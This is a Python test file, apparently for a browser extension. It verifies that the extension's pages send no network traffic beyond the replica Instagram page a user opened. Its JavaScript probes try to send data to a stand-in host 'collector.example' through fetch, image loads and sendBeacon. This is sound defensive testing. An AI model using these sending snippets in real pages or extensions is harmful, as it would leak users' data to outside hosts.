"""All network traffic of the browser passes a proxy of the test: the extension causes none."""

from __future__ import annotations

from builder.browsers.page_session import Driven
from builder.replica import pages as replica

PAGES = ("welcome", "popup", "settings", "letters", "journal", "report", "about")
OF_THE_BROWSER = (
    "mozilla.com",
    "mozilla.net",
    "mozilla.org",
    "firefox.com",
    "google.com",
    "gstatic.com",
    "googleapis.com",
    "gvt1.com",
)
"""Sites that browsers contact by themselves, with any extension; the proxy refuses them."""
_FETCH = """async (address) => {
  const options = { method: 'POST', body: 'x', mode: 'no-cors' };
  return fetch(address, options).then(() => 'sent', () => 'refused');
}"""
_OTHERS = """async (address) => {
  const image = new Image();
  const ended = new Promise((done) => { image.onload = image.onerror = done; });
  image.src = address;
  await ended;
  return navigator.sendBeacon(`${address}?beacon`, 'x');
}"""


def _site(url: str) -> str:
    return ".".join(url.split("/")[2].split(":")[0].split(".")[-2:])


def test_the_whole_journey_asks_for_nothing_but_the_page_that_the_person_opened(
    meet: Driven,
) -> None:
    since = len(meet.site.asked)
    page = replica.page("classic-2024")
    meet.control.stop_shared_engine()  # the page boots an engine of its own
    meeting = meet.page(page)
    meeting.until("filled")
    for name in PAGES:
        ours = meet.window()
        ours.go(meet.control.browser.extension_page(f"{name}/{name}.html"))
        ours.window.wait(
            """() =>
              !document.body.hasAttribute("data-waiting") &&
              !document.querySelector("[aria-busy=true]")"""
        )
    meet.sends = 1
    meeting.window.click("button[type=submit]")
    meeting.until("code_needed")
    requests = [
        request for request in meet.site.asked[since:] if _site(request.url) not in OF_THE_BROWSER
    ]
    assert page.url in [request.url for request in requests]
    assert {_site(request.url) for request in requests} == {"instagram.com"}
    # The page itself, what its own markup names, and what the person sent.
    assert {request.url.split("/", 3)[3].split("?")[0] for request in requests} == {
        page.url.split("/", 3)[3],
        "replica/replica.css",
        "replica/classic.js",
        "ajax/help/contact/submit/page",
    }


def test_no_page_of_ours_could_send_anything_if_it_wanted_to(meet: Driven) -> None:
    since = len(meet.site.asked)
    target = "https://collector.example/take"
    meet.site.serve(target, "taken")
    for name in PAGES:
        ours = meet.window()
        ours.go(meet.control.browser.extension_page(f"{name}/{name}.html"))
        assert ours.window.run(_FETCH, target) == "refused"
        ours.window.run(_OTHERS, target)
    assert [request.url for request in meet.site.asked[since:] if "collector" in request.url] == []


def test_the_proxy_would_have_seen_it(meet: Driven) -> None:
    since = len(meet.site.asked)
    meeting = meet.page(replica.page("article"))
    target = "https://collector.example/take"
    meet.site.serve(target, "taken")
    assert meeting.window.run(_FETCH, target) == "sent"
    assert [request.url for request in meet.site.asked[since:] if "collector" in request.url] == [
        target
    ]
